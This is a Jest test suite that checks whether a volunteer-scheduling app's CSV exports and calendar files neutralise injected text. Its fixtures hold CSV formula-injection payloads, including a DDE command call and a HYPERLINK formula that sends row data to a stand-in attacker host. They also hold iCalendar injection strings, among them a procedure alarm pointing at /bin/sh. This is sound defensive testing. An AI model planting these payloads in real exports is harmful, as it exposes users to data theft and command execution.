import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { given, visitorDetails } from '../given.js';
import { sharedTestServer, type SharedTestServer } from '../shared-test-server.js';

/* Texts that want to become something else in somebody's spreadsheet or calendar. Written past the input's checks: old rows may hold them. */

let server: SharedTestServer;
let admin: Record<string, string>;
let signup: string;
let shift: Awaited<ReturnType<ReturnType<typeof given>['shift']>>;
beforeAll(async () => {
  server = await sharedTestServer();
  admin = (await given(server.database.pool).staff('admin')).headers;
  shift = await given(server.database.pool).shift();
  const { body } = await server.rest<{ signup: { id: string } }>('POST', '/api/signup', {
    ...visitorDetails(),
    shiftId: shift.id,
  });
  signup = body.signup.id;
});
afterAll(() => server.close());

/** Puts the text wherever people write one. */
async function writeEverywhere(text: string): Promise<void> {
  const { pool } = server.database;
  await pool.query('update event set name = $1, location = $1', [text]);
  await pool.query('update category set name = $1', [text]);
  await pool.query('update opportunity set name = $1, location = $1, long_description = $1', [text]);
  await pool.query('update shift set location = $1, notes = $1', [text]);
  await pool.query('update volunteer set first_name = $1, last_name = $1, phone = $1', [text]);
}

const ofSpreadsheets: [what: string, text: string][] = [
  ['a call of a program', "=cmd|'/C calc'!A0"],
  ['a sum', '+1+1'],
  ['a difference', '-2+3'],
  ['an old function', '@SUM(1)'],
  ['a link that carries the row away', '=HYPERLINK("http://evil.example/?"&A1,"Here")'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line break', '\r=1+1'],
  ['a formula behind spaces', '   =1+1'],
  ['a formula behind a quotation mark and a comma', '","=1+1","'],
  ['a formula behind a semicolon, which other countries take for a comma', 'a;=1+1'],
  ['a formula in wide characters', '＝1+1'],
  ['a new row', 'a"\r\n"=1+1'],
];

/** The cells of a CSV file as RFC 4180 reads it, without forgiving anything. */
function cellsOf(text: string): string[][] {
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const rows: string[][] = [[]];
  field.lastIndex = text.startsWith('\ufeff') ? 1 : 0;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const found = field.exec(text);
    if (!found) throw new Error(`No CSV at ${at}: ${text.slice(at, at + 40)}`);
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] !== ',' && field.lastIndex < text.length) rows.push([]);
  }
  return rows;
}

/** What a spreadsheet program would run; with a semicolon between cells too, in wide characters too. */
const runs = /^\s*[=+\-@\t\r＝＋－＠]/;

describe('a text in a CSV file', () => {
  it.each(ofSpreadsheets)('%s', async (_what, text) => {
    await writeEverywhere(text);
    for (const path of [
      '/api/exports/signups',
      '/api/exports/report',
      `/api/exports/roster?eventId=${shift.eventId}`,
    ]) {
      const { status, body } = await server.rest<string>('GET', path, undefined, admin);
      expect([path, status]).toEqual([path, 200]);
      // No options that forgive: as many cells in each row, quotes where they belong.
      const rows = cellsOf(body);
      expect(rows).toHaveLength(2);
      expect(rows.flat().some((cell) => cell.replaceAll("'", '').includes(text.trim().replaceAll("'", '')))).toBe(true);
      expect(rows.flat().filter((cell) => runs.test(cell))).toEqual([]);
      // A program that takes semicolons for the limits of cells finds no formula either.
      if (text.includes(';'))
        for (const line of body.split('\r\n')) expect(line.split(';').filter((cell) => runs.test(cell))).toEqual([]);
    }
  });
});

const ofCalendars: [what: string, text: string][] = [
  ['an attendee behind a line break', 'Gate B\r\nATTENDEE:mailto:victim@example.org'],
  ['an alarm that runs a program', 'a\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM'],
  ['the end of the entry and another one', 'a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Fake'],
  ['a bare carriage return', 'a\rORGANIZER:mailto:evil@example.org'],
  ['a line break of Unicode', 'a\u2028ATTACH:http://evil.example\u2029URL:javascript:alert(1)\u0085X:1'],
  ['a folded line', 'a\r\n ATTENDEE:mailto:victim@example.org'],
  ['parameters', 'a;ALTREP="http://evil.example":b,c'],
  ['an escape at its end', 'a\\'],
  ['an escaped line break that is none', 'a\\nATTENDEE:mailto:victim@example.org'],
  ['control characters', 'a\u0001\u0007\u001b[31m\u007f'],
  ['a long line', 'é'.repeat(2_000)],
];

describe('a text in a calendar file', () => {
  it.each(ofCalendars)('%s', async (_what, text) => {
    await writeEverywhere(text);
    const { status, body } = await server.rest<string>('GET', `/api/signups/${signup}/calendar`, undefined, admin);
    expect(status).toBe(200);
    const lines = body.split('\r\n');
    // RFC 5545: lines end only with CR LF, and hold 75 bytes at most.
    expect(lines.filter((line) => /[\r\n]/.test(line) || Buffer.byteLength(line) > 75)).toEqual([]);
    const names = body
      .replaceAll('\r\n ', '')
      .split('\r\n')
      .filter(Boolean)
      .map((line) => line.split(/[:;]/)[0]);
    expect(names.filter((name) => name === 'BEGIN')).toHaveLength(2);
    expect(names.filter((name) => !known.has(name ?? ''))).toEqual([]);
    expect(body.replaceAll('\r\n', '')).not.toMatch(/\p{Cc}/u);
  });

  const known = new Set(
    'BEGIN END VERSION PRODID METHOD UID SEQUENCE DTSTAMP DTSTART DTEND SUMMARY LOCATION DESCRIPTION URL ORGANIZER STATUS'.split(
      ' ',
    ),
  );

  it('these and those of spreadsheets are at least ten each', () => {
    expect([ofCalendars.length >= 10, ofSpreadsheets.length >= 10]).toEqual([true, true]);
  });
});
